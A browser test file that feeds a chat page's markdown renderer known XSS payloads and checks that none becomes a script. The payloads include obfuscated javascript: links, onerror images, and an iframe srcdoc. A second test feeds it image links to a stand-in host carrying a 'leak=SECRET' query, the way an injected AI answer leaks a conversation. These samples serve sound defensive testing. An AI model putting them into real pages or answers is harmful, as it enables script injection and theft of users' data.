"""Texts that were more than text in other pages; each case names the report."""

import pytest
from playwright.async_api import Page

from browser.conftest import tab

__all__ = ["tab"]

pytestmark = [pytest.mark.browser, pytest.mark.row("H3")]

DRAW = """async (text) => {
  const { renderMarkdown } = await import("/page/modules/markdown.js");
  const box = document.createElement("div");
  box.append(renderMarkdown(text));
  document.body.append(box);
  const links = [...box.querySelectorAll("[href],[src],[srcset],[xlink\\\\:href]")].map((each) => ({
    tag: each.localName, protocol: new URL(each.href ?? each.src).protocol, host: new URL(each.href ?? each.src).host,
  }));
  const known = new Set(("a p br em strong del code pre ul ol li h3 h4 h5 h6 blockquote hr table thead tbody " +
    "tr th td div span button input img svg path").split(" "));
  const odd = [...box.querySelectorAll("*")].filter((each) => !known.has(each.localName)).map((each) => each.localName);
  const handlers = [...box.querySelectorAll("*")].filter((each) =>
    [...each.attributes].some((attribute) => /^(on|style$|srcdoc$|formaction$)/.test(attribute.name))).length;
  box.remove();
  return { links, odd, handlers };
}"""

TEXTS = [
    # netbox-community/netbox#9296 and #4717: new lines in the link, and by reference.
    "[XSS1][a]\n[a\n]: javascript:alert(1)\n\n[XSS2](\njavascript:alert(1))",
    "[I'm a javascript\n xss link]( javascript:alert(1))",
    # juspay/svelte-ui-components#470, baiye-banned/Agent_about_answer#12, daniel3303/Equibles#2619: a tab, an entity.
    "[x](jav&#x09;ascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    '<a href="java&#9;script:alert(1)">x</a>',
    "[x](java\nscript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    # researchstudio-sat/webofneeds#2391, markedjs/marked#203: entities for the colon and the bracket.
    "[Gotcha](javascript&#58;alert(1&#41;)",
    "[Gotcha](javascript&#58this;alert(1&#41;)",
    "[naughty link](javascript:alert('xss'&#41;)",
    # HabitRPG/habitica#4638, pankil-soni/conversa#3, adtac/commento#154: other schemes.
    "[linkname](javascript:alert%28%22XSS%22%29%3B)",
    "[go](vbscript:msgbox(1)) [go](data:text/html;base64,PHNjcmlwdD4=) [go](file:///etc/passwd) [go](blob:x)",
    "<javascript:alert(1)> <data:text/html,x>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><form action=//evil.example><button>x</button></form>',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


async def test_no_text_becomes_a_script(tab: Page) -> None:
    for text in TEXTS:
        found = await tab.evaluate(DRAW, text)
        assert {each["protocol"] for each in found["links"]} <= {"http:", "https:", "mailto:"}, (text, found)
        assert (found["odd"], found["handlers"]) == ([], 0), text


# dust-tt/dust#12359, epam/ai-dial-chat#7109, openai/openai-node#1432, bug-ops/zeph#1205, NVIDIA/garak#166 and #1930: a
# picture in an answer sent the conversation to somebody else, without a click.
async def test_no_picture_takes_the_conversation_elsewhere(tab: Page) -> None:
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url) if "evil" in request.url else None)
    for text in (
        "![x](https://evil.example/p.png?leak=SECRET)",
        "![x][r]\n\n[r]: https://evil.example/p.png?leak=SECRET",
        '<img src="https://evil.example/p.png?leak=SECRET">',
        "![x](//evil.example/p.png?leak=SECRET)",
        "[![x](https://evil.example/p.png?leak=SECRET)](https://evil.example/?leak=SECRET)",
    ):
        found = await tab.evaluate(DRAW, text)
        assert [each for each in found["links"] if each["tag"] != "a"] == [], text
    assert asked == []
    # A picture that was drawn all the same is stopped by the policy of the page, before anything is sent.
    stopped = await tab.evaluate(
        """async () => {
          const stopped = new Promise((done) => document.addEventListener("securitypolicyviolation", done));
          const picture = document.createElement("img");
          picture.src = "https://evil.example/p.png?leak=SECRET";
          document.body.append(picture);
          const late = new Promise((done) => setTimeout(() => done({}), 5000));
          const found = await Promise.race([stopped, late]);
          picture.remove();
          return [found.effectiveDirective, found.disposition];
        }"""
    )
    assert stopped == ["img-src", "enforce"]
